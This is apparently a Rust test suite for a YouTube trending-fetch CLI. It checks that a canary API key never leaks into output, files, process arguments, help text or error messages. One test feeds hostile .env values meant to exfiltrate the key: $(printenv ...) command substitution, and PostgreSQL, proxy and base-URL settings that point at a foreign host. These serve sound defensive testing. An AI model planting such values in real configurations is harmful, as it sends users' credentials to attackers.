//! The key appears nowhere: each scenario has a canary as its key, which is searched for in everything that a run leaves.

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use serde_json::json;

use crate::harness::{Answer, Run, Server, item};

/// A random key that is unique to a run.
pub fn canary(number: usize) -> String {
    let random = uuid::Uuid::new_v4().simple().to_string();
    format!("AIza_Canary-{number}-{random}")
}

/// The key, its encodings, and its halves.
pub fn variants(key: &str) -> Vec<String> {
    let percent: String = url::form_urlencoded::byte_serialize(key.as_bytes()).collect();
    // The Base64 of a text depends on its offset: three alignments, without the ends that depend on neighbours.
    let base64 = (0..3).map(|skip| {
        let encoded = STANDARD_NO_PAD.encode([&vec![b' '; skip], key.as_bytes()].concat());
        encoded[4..encoded.len() - 4].to_owned()
    });
    let halves = [key[..key.len() / 2].to_owned(), key[key.len() / 2..].to_owned()];
    [key.to_owned(), percent].into_iter().chain(base64).chain(halves).collect()
}

#[track_caller]
pub fn assert_clean(what: &str, bytes: &[u8], variants: &[String]) {
    let text = String::from_utf8_lossy(bytes);
    for variant in variants {
        assert!(!text.contains(variant.as_str()), "{what} holds the key as {variant}");
    }
}

#[test]
fn a_run_leaves_the_key_nowhere() {
    let nowhere = "http://127.0.0.1:1".to_owned();
    let on = |answer: fn(&crate::harness::Hit) -> Answer| Server::start(answer);
    // The server repeats the key in every field that is printed.
    let echo = Server::start(|hit| {
        let key = hit.headers["x-goog-api-key"].clone();
        let body = json!({"error": {"code": 400, "message": format!("bad key {key}"), "errors": [{"reason": key}]}});
        Answer::new(400, body.to_string()).header("retry-after", key)
    });
    let servers =
        [
            ("a good run", on(|_| Answer::page(&["a"], None))),
            ("a refused key", on(|_| Answer::refusal(400, "keyInvalid"))),
            ("a spent quota", on(|_| Answer::refusal(403, "quotaExceeded"))),
            (
                "a limit",
                on(|hit| {
                    if hit.nth == 0 {
                        Answer::new(429, "").header("retry-after", "0")
                    } else {
                        Answer::page(&["a"], None)
                    }
                }),
            ),
            ("a server error", on(|_| Answer::new(503, ""))),
            ("a redirect", on(|_| Answer::new(302, "").header("location", "http://127.0.0.1:1/?key=x"))),
            ("a truncated response", on(|_| Answer::new(200, "{\"items\":["))),
            ("another shape", on(|_| Answer::new(200, "<html>"))),
            ("a timeout", on(|_| Answer::page(&["a"], None).after(Duration::from_secs(2)))),
            ("a repeated token", on(|_| Answer::page(&["a"], Some("same")))),
            ("a malformed item", on(|_| Answer::json(&json!({"items": [item("a"), null]})))),
        ];
    let scenarios = servers.iter().map(|(name, server)| (*name, server.base_url.as_str()));
    let scenarios = scenarios.chain([("nobody there", nowhere.as_str()), ("a wrong address", "http://example.org")]);
    for (number, (name, base_url)) in scenarios.enumerate() {
        for source in ["environment", "dotenv", "file", "credential"] {
            let key = canary(number);
            let arguments = [
                "-r",
                "US,GB",
                "-vv",
                "--retries",
                "1",
                "--backoff",
                "1ms",
                "--timeout",
                "300ms",
                "-o",
                "out.json",
                "-o",
                "out.csv",
                "--store",
                "history.db",
                "--json",
                "-o",
                "-",
            ];
            let mut run =
                Run::new(&[&arguments[..], &["--base-url", base_url, "--progress", "always"]].concat()).without_key();
            run = run.env("RUST_LOG", "trace").env("RUST_BACKTRACE", "full");
            run = match source {
                "environment" => run.env("YOUTUBE_API_KEY", &key),
                "dotenv" => run.file(".env", &format!("YOUTUBE_API_KEY='{key}'\n")),
                "file" => {
                    run.command.args(["--api-key-file", "key"]);
                    run.file("key", &key)
                }
                _ => run.env("CREDENTIALS_DIRECTORY", ".").file("youtube_api_key", &key),
            };
            let child = run.command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
            let arguments = fs::read(format!("/proc/{}/cmdline", child.id())).unwrap_or_default();
            let output = child.wait_with_output().unwrap();
            let variants = variants(&key);
            let what = |part: &str| format!("{part} of {name}, key from {source}");
            assert_clean(&what("the argument list"), &arguments, &variants);
            assert_clean(&what("standard output"), &output.stdout, &variants);
            assert_clean(&what("standard error"), &output.stderr, &variants);
            for_each_file(run.folder.path(), &mut |path| {
                let is_where_it_was_put = [".env", "key", "youtube_api_key"].iter().any(|given| path.ends_with(given));
                if !is_where_it_was_put {
                    assert_clean(&what(&path.display().to_string()), &fs::read(path).unwrap(), &variants);
                }
            });
        }
    }
    // A server that repeats the key cannot make it appear either.
    let key = canary(99);
    let outcome = Run::on(&echo, "-r US -vv --json").env("YOUTUBE_API_KEY", &key).env("RUST_LOG", "trace").finish();
    assert_clean("an echoed key: standard output", outcome.stdout.as_bytes(), &variants(&key));
    assert_clean("an echoed key: standard error", outcome.stderr.as_bytes(), &variants(&key));
}

#[test]
fn a_foreign_dotenv_cannot_send_the_key_anywhere() {
    let server = Server::of_pages(&["a"]);
    let foreign = Sink::start();
    let key = canary(1);
    for dotenv in [
        "TRENDFETCH_STORE=postgres://${YOUTUBE_API_KEY}@FOREIGN/db?sslmode=disable",
        "TRENDFETCH_STORE=\"postgres://u:$YOUTUBE_API_KEY@FOREIGN/$YOUTUBE_API_KEY?sslmode=disable\"",
        "TRENDFETCH_STORE='${YOUTUBE_API_KEY}.db'",
        "TRENDFETCH_STORE=$(printenv YOUTUBE_API_KEY).db",
        "TRENDFETCH_REGIONS=$YOUTUBE_API_KEY",
        "TRENDFETCH_REGIONS='$YOUTUBE_API_KEY",
        "TRENDFETCH_BASE_URL=http://FOREIGN/youtube/v3\nTRENDFETCH_REGIONS=US",
        "ALL_PROXY=http://FOREIGN\nHTTP_PROXY=http://FOREIGN\nRUST_LOG=trace\nTRENDFETCH_REGIONS=US",
    ] {
        let run = Run::on(&server, "-vv --json -o out.json").env("YOUTUBE_API_KEY", &key).env("RUST_LOG", "trace");
        let outcome = run.file(".env", &dotenv.replace("FOREIGN", &foreign.address)).finish();
        let variants = variants(&key);
        for text in [&outcome.stdout, &outcome.stderr] {
            assert_clean(dotenv, text.as_bytes(), &variants);
        }
        for_each_file(outcome.folder.path(), &mut |path| {
            assert_clean(dotenv, path.as_os_str().as_encoded_bytes(), &variants);
            assert_clean(dotenv, &fs::read(path).unwrap(), &variants);
        });
        assert_clean(dotenv, &foreign.received(), &variants);
    }
    // The sink did receive something: the literal user name, and only PostgreSQL's protocol.
    let received = String::from_utf8_lossy(&foreign.received()).into_owned();
    assert!(received.contains("${YOUTUBE_API_KEY}") && !received.contains("GET "), "{received}");
    assert!(server.log().iter().all(|hit| hit.headers["x-goog-api-key"] == key) && !server.log().is_empty());
}

/// A server that records what it receives, and never responds.
struct Sink {
    address: String,
    received: Arc<Mutex<Vec<u8>>>,
}

impl Sink {
    fn start() -> Sink {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let sink = Sink { address: listener.local_addr().unwrap().to_string(), received: Arc::default() };
        let received = Arc::clone(&sink.received);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().map_while(Result::ok) {
                let mut buffer = [0; 4096];
                let length = stream.read(&mut buffer).unwrap_or(0);
                received.lock().unwrap().extend_from_slice(&buffer[..length]);
            }
        });
        sink
    }

    fn received(&self) -> Vec<u8> {
        self.received.lock().unwrap().clone()
    }
}

#[test]
fn help_shows_no_value_of_the_environment() {
    let (key, password) = (canary(1), canary(2));
    for arguments in
        [&["--help"][..], &["-h"], &["changes", "--help"], &["man"], &["completions", "bash"], &["--bogus"]]
    {
        let run = Run::new(arguments).env("YOUTUBE_API_KEY", &key).env("TRENDFETCH_REGIONS", &key);
        let run = run.env("TRENDFETCH_STORE", &format!("postgres://user:{password}@host/db"));
        let outcome = run.env("HTTPS_PROXY", &format!("http://user:{password}@proxy:3128")).finish();
        for text in [&outcome.stdout, &outcome.stderr] {
            assert_clean(arguments[0], text.as_bytes(), &[variants(&key), variants(&password)].concat());
        }
    }
}

#[test]
fn a_message_truncated_within_the_key_shows_no_part_of_it() {
    for cut_at in [9, 20, 38] {
        let server = Server::start(move |hit| {
            let key = &hit.headers["x-goog-api-key"];
            let message = format!("{} {key} and more", "x".repeat(300 - 2 - cut_at));
            Answer::new(403, json!({"error": {"message": message, "errors": [{"reason": "forbidden"}]}}).to_string())
        });
        let key = canary(cut_at);
        let outcome = Run::on(&server, "-r US -vv --json").env("YOUTUBE_API_KEY", &key).finish();
        for text in [&outcome.stdout, &outcome.stderr] {
            assert!(text.contains("xxx") && !text.contains(&key[..8]), "cut at {cut_at}: {text}");
        }
    }
}

fn for_each_file(folder: &Path, visit: &mut dyn FnMut(&Path)) {
    for entry in fs::read_dir(folder).unwrap() {
        visit(&entry.unwrap().path());
    }
}

#[test]
fn encodings_of_the_key_would_be_found() {
    let key = canary(0);
    for prefix in ["", "x", "xy", "xyz"] {
        let encoded = STANDARD_NO_PAD.encode(format!("{prefix}{key}&rest"));
        assert!(variants(&key).iter().any(|variant| encoded.contains(variant)), "{prefix}");
    }
}

#[cfg(target_os = "linux")]
#[test]
fn no_core_dump_is_left() {
    let server = Server::start(|_| Answer::page(&["a"], None).after(Duration::from_secs(5)));
    let mut run = Run::on(&server, "-r US");
    let mut child = run.command.stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    while server.log().is_empty() {
        std::thread::sleep(Duration::from_millis(5));
    }
    let limits = fs::read_to_string(format!("/proc/{}/limits", child.id())).unwrap_or_default();
    child.kill().unwrap();
    child.wait().unwrap();
    let core = limits.lines().find(|line| line.starts_with("Max core file size")).unwrap();
    assert_eq!(core.split_whitespace().skip(4).take(2).collect::<Vec<_>>(), ["0", "0"], "{core}");
}

#[test]
fn a_key_file_that_others_may_read_gets_a_warning() {
    let server = Server::of_pages(&["a"]);
    for (mode, warns) in [(0o600, false), (0o400, false), (0o640, true), (0o604, true)] {
        let run = Run::on(&server, "-r US --api-key-file key").file("key", "AIzaFromFile");
        fs::set_permissions(run.path("key"), fs::Permissions::from_mode(mode)).unwrap();
        let outcome = run.finish().exits(0);
        assert_eq!(outcome.stderr.contains("chmod 600"), warns, "{mode:o}: {}", outcome.stderr);
    }
}
